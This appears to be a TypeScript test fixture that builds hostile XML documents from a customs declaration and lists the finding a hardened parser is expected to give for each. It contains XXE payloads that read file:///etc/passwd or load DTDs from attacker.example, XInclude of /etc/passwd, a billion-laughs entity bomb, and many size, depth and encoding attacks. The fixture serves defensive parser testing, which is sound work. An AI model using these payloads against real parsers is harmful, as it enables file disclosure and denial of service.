/** Hostile documents by kind of XML syntax, each made from a right declaration. Generators, because some are large. */
import { declarationOf } from '../bench/declaration.ts'
import { loadMessages } from './tables.ts'

/** One hostile document. */
export interface Hostile {
  readonly kind: string
  readonly bytes: () => Uint8Array
  /**
   * What reading must give: the rule of the one finding when there is no document; `findings` when there is a document that must not be
   * acted on; `right` when nothing is wrong with it by the schema.
   */
  readonly expected: string
  /** reading, when it is more than that of the table of the declaration */
  readonly read?: (bytes: Uint8Array) => unknown
}

/** The table of the declaration that all are made from. */
export const table = loadMessages().get('CC015C')!
export const right = new TextDecoder().decode(declarationOf(table, 2))
/** 1,999 items, 2 MB. */
const long = new TextDecoder().decode(declarationOf(table, 1_999))
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)

/** The declaration with something replaced. */
export function changed(from: string | RegExp, to: string): Uint8Array {
  const text = right.replace(from, () => to)
  if (text === right) throw new Error(`the declaration has no ${String(from)}`)
  return utf8(text)
}

const beforeRoot = (text: string): Uint8Array => changed('?>', `?>${text}`)
const inRoot = (text: string): Uint8Array => changed('PhaseID=', `${text} PhaseID=`)
const inDescription = (text: string): Uint8Array => changed(/Ceramic tiles[^<]*/, text)
const afterSender = (text: string): Uint8Array => changed('</messageSender>', `</messageSender>${text}`)
const external = (system: string): string => `<!DOCTYPE a [<!ENTITY x SYSTEM "${system}">]>`

/** Documents with bytes that no text has: the marked place is replaced in the encoded form. */
function withBytes(...bytes: number[]): Uint8Array {
  const text = inDescription('#####')
  const at = text.indexOf(0x23)
  return Uint8Array.of(...text.subarray(0, at), ...bytes, ...text.subarray(at + 5))
}

const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le'))

const many = (count: number, one: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => one(index)).join('')
/** Levels that each declare 64 namespaces, which all hold inside. */
const levelsOf64 = (levels: number, inside: string): string =>
  many(levels, (level) => `<a${many(64, (at) => ` xmlns:p${level}x${at}="u"`)}>`) + inside + '</a>'.repeat(levels)
const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth)
const laughs = many(9, (at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)

/** The kinds of XML syntax. */
export const syntaxKinds: readonly Hostile[] = [
  { kind: 'a DOCTYPE', bytes: () => beforeRoot('<!DOCTYPE CC015C>'), expected: 'doctype' },
  ...['file:///etc/passwd', 'http://attacker.example/', 'ftp://attacker.example/x'].map((system) => ({
    kind: `an external entity of ${system}`,
    bytes: () => utf8(right.replace('?>', `?>${external(system)}`).replace('Ceramic', '&x;')),
    expected: 'doctype',
  })),
  {
    kind: 'a parameter entity',
    bytes: () => beforeRoot('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'),
    expected: 'doctype',
  },
  {
    kind: 'a billion laughs',
    bytes: () => beforeRoot(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`),
    expected: 'doctype',
  },
  {
    kind: 'quadratic entities',
    bytes: () =>
      utf8(
        right
          .replace('?>', `?><!DOCTYPE a [<!ENTITY q "${'q'.repeat(50_000)}">]>`)
          .replace('Ceramic', '&q;'.repeat(50_000)),
      ),
    expected: 'doctype',
  },
  ...[1_000, 100_000, 1_000_000].map((depth) => ({
    kind: `${depth} levels`,
    bytes: () => afterSender(nested(depth)),
    expected: 'too-deep',
  })),
  {
    kind: '100,000 attributes',
    bytes: () => inRoot(many(100_000, (at) => ` a${at}="1"`)),
    expected: 'too-many-attributes',
  },
  {
    kind: '100,000 attributes inside',
    bytes: () => changed('<messageType', `<messageType${many(100_000, (at) => ` a${at}="1"`)}`),
    expected: 'too-many-attributes',
  },
  {
    kind: '20,000 namespaces',
    bytes: () => inRoot(many(20_000, (at) => ` xmlns:n${at}="u${at}"`)),
    expected: 'too-many-attributes',
  },
  {
    kind: '400,000 elements in 62 levels of 64 namespaces',
    bytes: () => afterSender(levelsOf64(62, '<a/>'.repeat(400_000))),
    expected: 'findings',
  },
  {
    kind: '100,000 prefixed attributes in 62 levels of 64 namespaces',
    bytes: () => afterSender(levelsOf64(62, '<a p0x0:a="" p0x1:b=""/>'.repeat(50_000))),
    expected: 'findings',
  },
  {
    kind: '64 attributes on each of 7,000 elements',
    bytes: () => afterSender(`<x>${`<a${many(64, (at) => ` a${at}=""`)}/>`.repeat(7_000)}</x>`),
    expected: 'findings',
  },
  {
    kind: 'a namespace name of a megabyte on 200,000 attributes',
    bytes: () =>
      afterSender(
        `<x xmlns:p="${'u'.repeat(1_000_000)}" xmlns:q="v">${'<a p:a="" q:a=""/>'.repeat(100_000)}<!----></x>`,
      ),
    expected: 'name-too-long',
  },
  {
    kind: 'an attribute of 10 MB of line breaks',
    bytes: () => afterSender(`<x a="${'\n'.repeat(1e7)}"/>`),
    expected: 'findings',
  },
  { kind: '4 million references', bytes: () => inDescription('&amp;'.repeat(4_000_000)), expected: 'findings' },
  {
    kind: '4 million references that do not end',
    bytes: () => inDescription('&amp'.repeat(4_000_000)),
    expected: 'not-well-formed',
  },
  { kind: 'a name of a megabyte', bytes: () => afterSender(`<${'n'.repeat(1_000_000)}/>`), expected: 'name-too-long' },
  {
    kind: 'an attribute name of a megabyte',
    bytes: () => inRoot(`${'n'.repeat(1_000_000)}="1"`),
    expected: 'name-too-long',
  },
  { kind: 'a text of 100 MB', bytes: () => inDescription('x'.repeat(100_000_000)), expected: 'too-large' },
  { kind: 'a text of 20 MB', bytes: () => inDescription('x'.repeat(20_000_000)), expected: 'findings' },
  { kind: 'a text of 20 MB between elements', bytes: () => afterSender('x'.repeat(20_000_000)), expected: 'findings' },
  { kind: '20 MB of white space', bytes: () => afterSender(' \n'.repeat(10_000_000)), expected: 'right' },
  { kind: '20 MB of comments', bytes: () => afterSender('<!--x-->'.repeat(2_500_000)), expected: 'right' },
  { kind: '600,000 elements', bytes: () => afterSender('<x/>'.repeat(600_000)), expected: 'findings' },
  {
    kind: '600,000 elements in an unknown one',
    bytes: () => afterSender(`<x>${'<x/>'.repeat(600_000)}</x>`),
    expected: 'too-many-nodes',
  },
  {
    kind: '200,000 elements behind an instruction',
    bytes: () => afterSender(`<?x?>${'<x/>'.repeat(200_000)}`),
    expected: 'findings',
  },
  { kind: '2 MB that do not end', bytes: () => utf8(long.slice(0, -30)), expected: 'not-well-formed' },
  {
    kind: '2 MB with a reference at their end',
    bytes: () => utf8(long.replace(/(.*)TILES/s, '$1&#84;ILES')),
    expected: 'right',
  },
  { kind: 'the same attribute twice', bytes: () => inRoot('a="1" a="2"'), expected: 'duplicate-attribute' },
  {
    kind: 'the same attribute twice by namespace',
    bytes: () => inRoot('xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"'),
    expected: 'duplicate-attribute',
  },
  { kind: 'two roots', bytes: () => utf8(`${right}<a/>`), expected: 'not-well-formed' },
  { kind: 'NUL', bytes: () => inDescription('a\0b'), expected: 'not-well-formed' },
  { kind: 'NUL by reference', bytes: () => inDescription('a&#0;b'), expected: 'not-well-formed' },
  { kind: 'a lone surrogate by reference', bytes: () => inDescription('&#xD800;'), expected: 'not-well-formed' },
  { kind: 'an encoded lone surrogate', bytes: () => withBytes(0xed, 0xa0, 0x80), expected: 'not-utf8' },
  { kind: 'invalid UTF-8', bytes: () => withBytes(0xc3, 0x28), expected: 'not-utf8' },
  { kind: 'overlong UTF-8', bytes: () => withBytes(0xc0, 0xbc), expected: 'not-utf8' },
  { kind: 'UTF-8 that ends too early', bytes: () => withBytes(0xf0, 0x9f, 0x98), expected: 'not-utf8' },
  { kind: 'UTF-16 that says it is UTF-8', bytes: () => utf16(`\ufeff${right}`), expected: 'not-utf8' },
  { kind: 'UTF-16 without a byte order mark', bytes: () => utf16(right), expected: 'not-utf8' },
  {
    kind: 'UTF-16, the other way round',
    bytes: () => new Uint8Array(Buffer.from(utf16(`\ufeff${right}`)).swap16()),
    expected: 'not-utf8',
  },
  { kind: 'UTF-8 that says it is UTF-16', bytes: () => changed('UTF-8', 'UTF-16'), expected: 'not-utf8' },
  { kind: 'two byte order marks', bytes: () => utf8(`\ufeff\ufeff${right}`), expected: 'not-well-formed' },
  { kind: 'a byte order mark inside', bytes: () => afterSender('\ufeff'), expected: 'findings' },
  { kind: 'a CDATA end in text', bytes: () => inDescription('a]]>b'), expected: 'not-well-formed' },
  {
    kind: 'a CDATA section with two ends',
    bytes: () => inDescription('<![CDATA[a]]>]]>'),
    expected: 'not-well-formed',
  },
  { kind: 'a CDATA section that does not end', bytes: () => inDescription('<![CDATA[a'), expected: 'not-well-formed' },
  { kind: 'an end that is missing', bytes: () => utf8(right.slice(0, -20)), expected: 'not-well-formed' },
  { kind: 'an element that does not end', bytes: () => changed('</messageSender>', ''), expected: 'not-well-formed' },
  {
    kind: 'XInclude',
    bytes: () =>
      afterSender('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    expected: 'findings',
  },
  {
    kind: 'a schema location at the attacker’s',
    bytes: () =>
      inRoot(
        'xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="http://ncts.dgtaxud.ec http://attacker.example/x.xsd"',
      ),
    expected: 'right',
  },
  { kind: 'xml:base', bytes: () => inRoot('xml:base="http://attacker.example/"'), expected: 'findings' },
  {
    kind: 'a stylesheet instruction',
    bytes: () => beforeRoot('<?xml-stylesheet href="http://attacker.example/x.xsl"?>'),
    expected: 'right',
  },
  {
    kind: 'an instruction that splits a value',
    bytes: () => changed('<security>0', '<security><?x 1?>0'),
    expected: 'right',
  },
  {
    kind: 'a comment that splits a value',
    bytes: () => changed('BENCH-2026', 'BENCH<!-- -->-2026'),
    expected: 'right',
  },
]
